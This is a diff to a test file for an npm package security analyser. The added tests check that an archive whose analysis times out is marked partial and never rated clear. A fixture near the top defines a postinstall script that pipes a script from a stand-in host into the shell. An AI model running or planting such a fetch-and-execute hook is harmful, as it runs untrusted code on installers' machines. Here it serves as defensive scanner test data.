@@ -3,6 +3,8 @@ import * as assert from 'uvu/assert';
 import { analyzeArchive, type AnalyzeOptions } from '../../shared/packages/analysis/index.js';
 import { AnalysisAbortedError, AnalysisPool, AnalysisTimeoutError, analyzeOffThread } from '../../shared/packages/analysis/pool.js';
 import { buildTgz, npmTgz, tgzZeroBomb } from '../fixtures/archives/build.js';
+import { unfinishedAnalysis } from '../../shared/packages/audit.js';
+import { packageVerdict, reviewPackage } from '../../shared/packages/lens/index.js';
 import { buildZip } from '../support/zip-writer.js';
 
 const PKG = JSON.stringify({ name: 'demo', version: '1.0.0', scripts: { postinstall: 'curl -s https://x.example/i.sh | sh' } });
@@ -79,6 +81,17 @@ test('an archive past its time budget is AnalysisTimeoutError (an AnalysisAborte
       assert.instance(err, AnalysisTimeoutError);
       assert.instance(err, AnalysisAbortedError);
       assert.is((err as AnalysisTimeoutError).budgetMs, 5);
+      // What the audit records: PARTIAL, nothing counted as analysed, the finding says why.
+      const a = unfinishedAnalysis('demo-1.0.0.tgz', err as AnalysisTimeoutError, 256);
+      assert.is(a.analysisType, 'PARTIAL');
+      assert.is(a.fileCount, 0);
+      assert.equal(a.limitsHit, ['analysisTime']);
+      assert.equal(a.findings.map((f) => [f.ruleId, f.severity, f.file]), [['LIMIT-TIME-001', 'MEDIUM', 'demo-1.0.0.tgz']]);
+      assert.match(a.findings[0]!.message, /cut off at its 5 ms time budget/);
+      const verdict = packageVerdict(
+        reviewPackage({ registry: 'npm', name: 'demo', version: '1.0.0', analysis: a, integrity: { ok: true, expected: 'sha512:x', actual: 'sha512:x' }, advisories: { status: 'ok', advisories: [] } }),
+      );
+      assert.is.not(verdict.securityLevel, 'CLEAR', 'an unread archive is never CLEAR');
     }
     assert.is(pool.timeouts, 1);
     const [, buf, opts] = (await samples())[1]!;
